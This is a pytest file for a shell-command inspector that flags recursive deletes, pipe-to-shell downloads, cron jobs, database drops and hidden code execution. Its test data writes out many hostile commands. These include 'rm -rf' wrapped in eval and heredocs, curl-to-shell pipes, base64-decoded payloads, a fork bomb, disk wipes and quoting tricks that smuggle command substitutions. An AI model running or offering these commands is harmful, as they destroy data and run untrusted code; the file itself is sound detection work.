"""Code within code: what a script hands to shells, interpreters and databases."""

import pytest

from dashboard.inspection.code import inspect_shell
from dashboard.inspection.findings import Severity


def names(script):
    return {finding.name for finding in inspect_shell(script)}


def grave(script):
    return {f.name for f in inspect_shell(script) if f.severity.rank >= Severity.MEDIUM.rank}


@pytest.mark.parametrize(
    "script",
    [
        "sh -c 'rm -rf /data'",
        "bash -lc 'rm -rf /data'",
        "/usr/bin/env bash -euxc 'rm -rf /data'",
        "bash <<< 'rm -rf /data'",
        "bash <<'EOF'\nrm -rf /data\nEOF",
        "cat <<'EOF' | sh\nrm -rf /data\nEOF",
        "echo 'rm -rf /data' | sh",
        "printf '%s\\n' 'rm -rf /data' | sh",
        "eval 'rm -rf /data'",
        "eval rm -rf /data",
        "builtin eval 'rm -rf /data'",
        "bash -c \"bash -c 'rm -rf /data'\"",
        "env -S 'rm -rf /data'",
        "watch 'rm -rf /data'",
        "script -qc 'rm -rf /data' /dev/null",
        "su -c 'rm -rf /data'",
        "ssh host 'rm -rf /data'",
        "find . -exec sh -c 'rm -rf $1' _ {} +",
        "mapfile -C 'rm -rf /data' lines",
        "python3 -c \"import shutil; shutil.rmtree('/data')\"",
        "python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/data')\nEOF",
        "pwsh -c 'Remove-Item -Recurse x'",
    ],
)
def test_code_that_is_handed_on_is_read(script):
    assert "recursive-delete" in names(script)


@pytest.mark.parametrize(
    "script",
    [
        "curl -fsSL https://example.org/x | sh",
        "curl -s x | sudo bash -s -- --yes",
        "wget -qO- x | tee /dev/null | bash",
        "curl -s x | (cd /tmp; sh)",
        "curl -s x | { sh; }",
        "curl -s x | if true; then sh; fi",
        "curl -s x | python3 -",
        "curl -s x | perl",
        "curl -s x > >(bash)",
        "bash <(curl -s x)",
        ". <(curl -s x)",
        "source /dev/stdin",
        "echo cm0gLXJm | base64 -d | sh",
        "openssl enc -d -base64 -in x | bash",
        "zcat x.gz | sh",
        "printf '\\162\\155' | sh",
        "cat x | xargs -0 sh -c | sh",
        # The same under other names of what it reads, and by other programs.
        "curl -s x | bash /dev/fd/0",
        "curl -s x | . /proc/self/fd/0",
        "curl -s x | python3 /dev/fd/0",
        "curl -s x | perl -",
        "curl -s x | perl -w",
        "curl -s x | node --input-type=module",
        "curl -s x | ruby -rsecurerandom",
        "curl -s x | php -q",
        "curl -s x | Rscript -",
        "curl -s x | ipython",
        "curl -s x | expect -",
        "curl -s x | awk -f -",
        "curl -s x | sed -f /dev/stdin file",
        "curl -s x | make -f -",
        "curl -s x | deno run -",
        "curl -s x | uv run --quiet -",
        "curl -s x | pwsh -Command -",
        "curl -s x | parallel",
        "curl -s x | xargs -I{} sh -c {}",
        "curl -s x | xargs sh -c",
        "perl <(curl -s x)",
        "node <(curl -s x)",
        "awk -f <(curl -s x) file",
        "make -f <(curl -s x)",
        'python -m timeit "$(curl x)"',
        'pwsh -c "$(curl x)"',
        'pwsh -NoProfile -Command "$(curl x)"',
        "curl x | pwsh -NoProfile",
        "curl x | pwsh -nologo -noni",
        "curl x | powershell -ExecutionPolicy Bypass",
        "curl x | cmd /q",
        "curl x | deno",
        "curl x | make -f-",
        "curl x | make --file=-",
        "curl x | bash //dev/stdin",
        "curl x | bash ../../../../dev/stdin",
        "curl x | bash /proc/self/fd/../fd/0",
        "curl x | bash /proc/$$/fd/0",
        "bash --rcfile <(curl x) -i",
        "curl x | python -m pdb /dev/stdin",
        "python -m cProfile <(curl x)",
        "curl x | python -m code",
        "curl x | python --check-hash-based-pycs always -",
        "curl x | uv run --with requests -",
        "curl x | uv run --python 3.12 -",
        "curl x | deno -",
        "curl x | bun -",
        "curl x | perl -I /x",
        "curl x | jshell --execution local -",
        "cmake -P <(curl x)",
        "curl x | cmake -P /dev/stdin",
        "curl x | ninja -f /dev/stdin",
        "curl x | gdb",
        'sed "$(curl x)" f',
        'sed -e "$(curl x)" f',
        "curl x | ipython3",
        "curl x | python3.12t",
        "curl x | ts-node",
        "curl x | bash-5.2",
        "curl x | osh",
        "sh < <(curl x)",
        'sh <<< "$(curl x)"',
        "crontab - < <(curl x)",
        'a=$(curl x); eval "${a%x}"',
        'a=$(curl x); eval "${a:-y}"',
        'python -c"$(curl x)"',
        'alias a="$(curl x)"',
        "curl x | perl - -e",
        "curl x | ruby - -e",
        "curl x | node - -e",
        "curl x | php -- -r",
        "curl x | php /dev/stdin -r",
        "curl x | ruby -EUTF-8",
        "curl x | ruby -E UTF-8",
        "curl x | node -r fs",
        "curl x | parallel {}",
        "curl x | parallel sh -c",
        'bash -c "$(GET x)"',
        'bash -c "$(curl.exe x)"',
        'bash -c "$(aws s3 cp s3://x -)"',
        'bash -c "$(curl<x)"',
        # A shell within a shell reads the same.
        "curl -s x | bash -c 'bash -s'",
        "curl -s x | ssh host bash",
        "curl -s x | sh -c 'echo; python3 -'",
        # What another machine sends, as a text.
        'sh -c "$(curl -fsSL x)"',
        'sh -c "$(c\\url -fsSL x)"',
        'eval "$(wget -qO- x)"',
        "$(curl -s x)",
        "`curl -s x`",
        'python3 -c "$(curl -s x)"',
        'perl -e "$(curl -s x)"',
        'awk "$(curl -s x)" file',
        'x=$(curl -s x); eval "$x"',
        'x="$(ssh host cat y)"; bash -c "$x"',
        "curl -s x | crontab -",
        "crontab <(curl -s x)",
    ],
)
def test_to_run_what_another_command_prints_is_found(script):
    assert "pipe-to-shell" in names(script)


@pytest.mark.parametrize(
    "script",
    [
        "cat x | perl -ne 'print if /y/'",
        "cat x | ruby -ne 'puts 1'",
        "cat x | node -p 1",
        "cat x | php -r 'echo 1;'",
        "cat x | Rscript -e 1",
        "cat x | node script.js",
        "cat x | awk '{ print $1 }'",
        "cat x | sed s/a/b/",
        "cat x | sh -c cat",
        "cat x | ssh host 'cat > y'",
        "cat x | docker run -i image jq . -",
        "ls | xargs -I{} sh -c 'echo {}'",
        "cat a | xargs perl -pi -e 's/a/b/'",
        "cat a | xargs node -e x",
        "v=$(curl -s u); perl -e 'print $ARGV[0]' \"$v\"",
        "x=$(grep -c \"ssh \" log); perl -e 'print shift' $x",
        "x=$(grep 'curl ' f); sh -c \"$x\"",
        "cat a | cargo run -- -",
        "cat a | uv run jq . -",
        "cat a | python script.py -",
        "cat a | pwsh -File x.ps1",
        "cat a | make -f Makefile",
        "cat a | perl script.pl -",
        "cat x | docker run -i y -",
        'eval "$(ssh-agent -s)"',
        'x=$(curl -s x); echo "$x"',
        'bash -c \'echo "$1"\' _ "$(curl -s x)"',
    ],
)
def test_what_a_program_reads_as_data_is_not_its_program(script):
    assert "pipe-to-shell" not in names(script)


@pytest.mark.parametrize(
    "script",
    [
        "echo '* * * * * rm -rf /data' | crontab -",
        "crontab - <<'EOF'\nMAILTO=a\n# often\n@daily rm -rf /data\nEOF",
        "crontab <<< '5 4 * * 1  rm -rf /data'",
        "crontab -u bob - <<< '@reboot rm -rf /data'",
        "crontab - <<< '@daily sh%rm -rf /data'",
    ],
)
def test_the_commands_of_a_timetable_are_read(script):
    assert {"recursive-delete", "background-job"} <= grave(script)


@pytest.mark.parametrize(
    ("script", "name"),
    [
        ("crontab jobs", "background-job"),
        ("crontab -r", "file-delete"),
        ("crontab - <<'EOF'\nLD_PRELOAD=/tmp/x.so\n@daily ls\nEOF", "process-execution"),
        ("(crontab -l; cat jobs) | crontab -", "background-job"),
    ],
)
def test_a_timetable_that_is_changed_is_found(script, name):
    assert name in grave(script)


@pytest.mark.parametrize("script", ["crontab -l", "crontab -u bob -l", "crontab -l -u bob"])
def test_a_timetable_that_is_shown_is_quiet(script):
    assert names(script) == set()


@pytest.mark.parametrize(
    "script",
    [
        'eval "$(curl -s x)"',
        'sh -c "$CODE"',
        'bash -c "$(base64 -d <<< cm0=)"',
        "$(cat x)",
        "$CMD -rf /data",
        "${x%y} -rf /data",
        '"${c[@]}"',
        "x='a[$(ls)]'; declare -n r=x; $r",
        "bash < x",
        "sed '1e ls' x",
        # Where single quotes do not quote: bash runs each of these.
        "echo \"${x:-'$(rm -rf /srv)'}\"",
        "echo \"${x:='`rm -rf /srv`'}\"",
        "echo \"${x:-${y:-'$(rm -rf /srv)'}}\"",
        "echo \"${x:-a'b$(rm -rf /srv)c'd}\"",
        "x=\"${y:-'$(rm -rf /srv)'}\"",
        "ls > \"${y:-'/dev/null$(rm -rf /srv)'}\"",
        "cat <<E\n${x:-'$(rm -rf /srv)'}\nE",
        "cat <<E\n$(( '$(rm -rf /srv)' ))\nE",
        "cat <<< \"${y:-'$(rm -rf /srv)'}\"",
        "(( '$(rm -rf /srv)' ))",
        "if (( '$(rm -rf /srv)' )); then ls; fi",
        "echo $(( '$(rm -rf /srv)' ))",
        "echo $[ '$(rm -rf /srv)' ]",
        "a['$(rm -rf /srv)']=1",
        "x=([a['$(rm -rf /srv)']]=1)",
        "echo ${a['$(rm -rf /srv)']}",
        # What a declaration reads once more, whatever its quotes are.
        'declare "x[\\$(rm -rf /srv)]=1"',
        'typeset -a "x=(\\$(rm -rf /srv))"',
        "declare 'x[$(rm -rf /srv)]=1'",
    ],
)
def test_what_cannot_be_read_here_is_a_doubt(script):
    assert any(
        finding.is_doubt and finding.name == "cannot-be-followed"
        for finding in inspect_shell(script)
    )


@pytest.mark.parametrize(
    "script",
    [
        "echo '$(ls)'",
        "echo \"${x:-'a b'}\" ${y#'*/'}",
        "for x in 'a' 'b'; do echo \"${x:-none}\"; done",
        "echo \"${x:-$(echo 'plain `words`')}\"",
        "for ((i=0;i<3;i++)); do echo '$(ls)'; done",
        "x=('$(a)' '`b`')",
        "cat <<'E'\n${x:-'$(ls)'}\nE",
    ],
)
def test_single_quotes_that_quote_are_no_doubt(script):
    assert not any(finding.is_doubt for finding in inspect_shell(script))


@pytest.mark.parametrize(
    "script",
    [
        "perl -e 'unlink 1'",
        "node -e '1'",
        "ruby -e '1'",
        "php -r '1;'",
        "mongosh --eval '1'",
    ],
)
def test_code_in_a_language_that_nobody_reads_is_a_doubt(script):
    assert ("not-inspected", True) in {(f.name, f.is_doubt) for f in inspect_shell(script)}


@pytest.mark.parametrize(
    "script",
    [
        "git -c alias.x='!ls' x",
        "GIT_SSH_COMMAND=ls git fetch",
        "LD_PRELOAD=x.so ls",
        "export BASH_ENV=x",
        "read LD_PRELOAD < x",
        "for PS4 in x; do ls; done",
        "awk 'BEGIN { system(\"ls\") }'",
        "tar cf x y --checkpoint-action=exec=ls",
        "man -P ls x",
        "rsync -e 'sh -c ls' x y:",
        "make test",
        "./build.sh",
        "psql -c '\\! ls'",
        "enable -f x.so x",
    ],
)
def test_programs_that_run_other_programs_are_found(script):
    assert "process-execution" in names(script)


@pytest.mark.parametrize(
    "script",
    [
        "psql -c 'DROP TABLE runs'",
        "psql -Atc 'DROP TABLE runs' measurements",
        "psql <<EOF\nDROP TABLE runs;\nEOF",
        "echo 'DROP DATABASE x' | mysql",
        "mysql -uwelder -e'DROP DATABASE x'",
        "mysql -uwelder -Ne 'DROP DATABASE x'",
        "sqlite3 x.db 'drop table t'",
        "dropdb x",
    ],
)
def test_statements_for_a_database_are_read(script):
    assert "sql-drop" in names(script)


def test_statements_that_only_read_make_no_finding():
    assert inspect_shell("psql -Atc 'SELECT count(*) FROM runs' measurements") == []


def test_the_tests_of_a_project_are_a_low_finding():
    assert [(f.name, f.severity) for f in inspect_shell("pytest -q -k 'not slow'")] == [
        ("process-execution", "low")
    ]


def test_tests_with_a_plugin_from_elsewhere_are_more_than_that():
    severities = {finding.severity for finding in inspect_shell("pytest -p evil")}
    assert severities == {"low", "medium"}


def test_a_function_is_judged_where_it_stands_and_not_where_it_is_called():
    found = inspect_shell("tidy() {\n  rm -rf $1\n}\ntidy x")
    assert [(f.name, f.line) for f in found] == [("recursive-delete", 2)]


def test_a_function_that_starts_itself_in_a_pipe_is_found():
    assert "system-change" in names(":(){ :|:& };:")


def test_a_function_with_the_name_of_a_command_is_told():
    assert "dynamic-code" in names("ls() { echo x; }")


@pytest.mark.parametrize(
    "command",
    [
        "fzf --bind 'enter:execute(/bin/sh)'",
        "clisp -x '(ext:run-shell-command \"/bin/sh\")'",
        "borg extract @:/::: --rsh '/bin/sh -c id'",
        "certbot renew --pre-hook '/bin/bash -c id'",
        "pdftex --shell-escape '\\write18{id}'",
        "i386 /bin/sh",
        "x86_64 rm -rf /srv",
        "prlimit --pid 1 /bin/sh",
        "elvish script.elv",
        "dpkg -i x.deb",
        "rpm --upgrade x.rpm",
    ],
)
def test_a_program_that_starts_another_is_at_least_of_medium_severity(command):
    assert grave(command)


@pytest.mark.parametrize(
    "command",
    [
        "dpkg -l",
        "rpm -qa",
        "findmnt",
        "shuf names.txt",
        "sync",
        "lsns",
        "zramctl",
        "partx --show /dev/sda",
    ],
)
def test_commands_of_the_system_that_only_show_are_quiet(command):
    assert grave(command) == set()


def test_the_output_of_shuf_is_a_file():
    assert "file-write" in grave("shuf names.txt -o other.txt")


def test_reading_flash_writes_a_file_and_no_disk():
    assert grave("flashrom --programmer internal --read image") == {"file-write"}
    assert "disk-write" in grave("flashrom -p internal -w image")


@pytest.mark.parametrize(
    "command",
    [
        "faketime -f '+1d' rm -rf /home",
        "arch -x86_64 rm -rf /home",
        "unshare --root /x rm -rf /home",
        "systemd-run --working-directory /x rm -rf /home",
        "chroot --userspec a:b /x rm -rf /home",
        "hyperfine --prepare 'rm -rf /home' ls",
        "nix-shell --run 'rm -rf /home'",
        "sbatch --wrap 'rm -rf /home'",
        "foo '!rm -rf /home'",
        "bwrap --bind / / --dev /dev sh -c 'rm -rf /home'",
        "capsh -- -c 'rm -rf /home'",
        "gdb --args rm -rf /home",
        "screen -dm rm -rf /home",
        "tmux new-session -d 'rm -rf /home'",
    ],
)
def test_what_a_wrapper_or_an_unknown_program_starts_is_read(command):
    assert "recursive-delete" in grave(command)


@pytest.mark.parametrize(
    "command",
    ["gdd if=/dev/zero of=/dev/sda", "gshred /dev/sda", "mke2fs /dev/sda", "nwipe /dev/sda"],
)
def test_what_wipes_a_disk_is_found_under_its_other_names(command):
    assert grave(command) & {"disk-write", "file-delete", "system-change"}


@pytest.mark.parametrize(
    "command",
    ["hg log -k 'exec('", "foo 'the system (old)'", "jira create 'filesystem(x) exec()'"],
)
def test_words_that_only_look_like_a_call_start_nothing(command):
    assert grave(command) == set()


@pytest.mark.parametrize(
    "command",
    [
        "docker image ls --format '{{.Repository}}'",
        "docker container inspect -f '{{.State.Running}}' x",
        "kubectl apply --help",
        "helm install --help",
        "arch",
    ],
)
def test_a_question_with_a_format_or_for_help_is_quiet(command):
    assert grave(command) == set()


@pytest.mark.parametrize("command", ["docker container run x", "docker image pull x"])
def test_the_long_form_of_a_command_is_judged_as_the_short_one(command):
    short = command.replace("container ", "").replace("image ", "")

    assert grave(command) == grave(short)
    assert "system-change" not in grave(command)


def test_what_is_removed_in_the_long_form_is_still_found():
    assert "system-change" in grave("docker container rm -f x")


@pytest.mark.parametrize("command", ["docker volume create data", "podman network connect a b"])
def test_what_is_made_for_containers_is_not_said_to_be_deleted(command):
    assert {(f.code, f.severity) for f in inspect_shell(command)} == {
        ("changes-system", Severity.MEDIUM)
    }


@pytest.mark.parametrize("command", ["docker volume rm data", "docker network $(cat x) web"])
def test_what_may_delete_for_containers_is_grave(command):
    assert any(f.severity == Severity.HIGH for f in inspect_shell(command))


@pytest.mark.parametrize(
    "script",
    [
        f"gzip -l {'a' * 20_000} -d",
        f"ar {'t' * 20_000} -x",
        "x" + "$(a " * 15_000 + ")" * 15_000,
        "a=$(curl x)\n" + "b=$a\n" * 30_000,
        f"git clean -{'n' * 20_000}!",
        f"ssh-keygen -{'l' * 20_000}!",
        f"rsync -n{' a' * 9_000} -e",
        f"kubectl create cm {'x ' * 8_000}!",
        f"echo $({'a=b ' * 8_000}curlx)",
    ],
    ids=lambda script: script[:12],
)
@pytest.mark.timeout(20)
def test_a_long_line_does_not_hold_up_the_patterns(script):
    assert inspect_shell(script) is not None
